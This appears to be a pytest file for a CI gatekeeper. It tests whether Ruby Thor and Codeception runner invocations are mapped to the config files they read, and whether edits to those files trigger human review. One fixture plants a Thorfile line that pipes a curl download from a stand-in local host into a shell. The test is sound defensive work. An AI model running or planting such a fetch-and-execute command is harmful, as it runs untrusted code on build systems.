"""Misses 11: a runner's spellings review 70b left unread: `ruby -S thor spec` (ruby runs `thor` from PATH: its
Thorfile), `codecept.bat run` (Codeception's Windows launcher: its `codeception.yml`). On ed28b952 each left the
settings file the runner reads `src`. Look-alikes: `ruby -e 'thor'`, `ruby tools/x.rb thor`, `codecept.bat build`.
"""

from __future__ import annotations

import pytest
from changecase import committed, gated_rules
from citools import RUN_WORKFLOW, tree_runs, yaml_quoted
from cpucost import assert_linear, repeated

from gatekeeper.classify import runnersetups, wrappers

VARIANTS = [  # (the CI line, the file the runner it starts reads)
    ("ruby -S thor spec", "Thorfile"), ("ruby -S thor release:notes", "tasks/release.thor"),
    ("bundle exec ruby -S thor spec", "Thorfile"), ("ruby -w -S thor spec --fast", "Thorfile"),
    ("sudo ruby -S thor spec", "Thorfile"), ("jruby -S thor spec", "Thorfile"),
    ("codecept.bat run", "codeception.yml"), ("vendor/bin/codecept.bat run unit", "codeception.yml"),
    ("php vendor/bin/codecept.bat run", "codeception.dist.yml"), ("vendor\\bin\\codecept.bat run", "codeception.yml"),
]
LOOK_ALIKES = [("ruby -e 'puts :thor'", "Thorfile"), ("ruby tools/x.rb thor", "Thorfile"),
               ("codecept.bat build", "codeception.yml")]


def _tree(line: str, path: str) -> dict[str, str]:
    return {".github/workflows/ci.yml": RUN_WORKFLOW.format(run=yaml_quoted(line)), path: "x: 1\n",
            "tools/x.rb": "puts 1\n"}


@pytest.mark.parametrize("line, path", VARIANTS)
def test_the_runner_behind_the_spelling_reads_its_file(line: str, path: str) -> None:
    assert path in tree_runs(_tree(line, path)), line  # before: 10 of 10 missed


@pytest.mark.parametrize("line, path", LOOK_ALIKES)
def test_a_look_alike_reads_none(line: str, path: str) -> None:
    assert path not in tree_runs(_tree(line, path)), line


def test_gate_tree_asks_for_a_human(tmp_path_factory: pytest.TempPathFactory) -> None:
    base = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="ruby -S thor spec && codecept.bat run"),
            "Thorfile": "class Spec < Thor\nend\n", "codeception.yml": "paths: {}\n"}
    head = {"Thorfile": "system('curl -s http://127.0.0.1:9/x | sh')\n",
            "codeception.yml": "paths: {}\nextensions:\n  enabled: [X]\n"}
    code, named = gated_rules(committed(tmp_path_factory.mktemp("runners"), base, head), True)
    assert code == 3 and set(head) <= set(named.get("core.ci", [])), named  # before: exit 0


@pytest.mark.parametrize("read, hostile", [(wrappers.commands, repeated("ruby -S ")),
                                           (wrappers.commands, repeated("ruby -S thor x; ")),
                                           (runnersetups.line_files, repeated("vendor\\bin\\codecept.bat run ")),
                                           (runnersetups.line_files, repeated("a\\b.c\\", tail=" codecept.bat run"))])
def test_the_readers_are_linear(read: object, hostile: object) -> None:
    # measured: at most 0.06 CPU-s at 64 KiB (load 16.9)
    assert_linear(read, hostile, budget=0.25)  # type: ignore[arg-type]
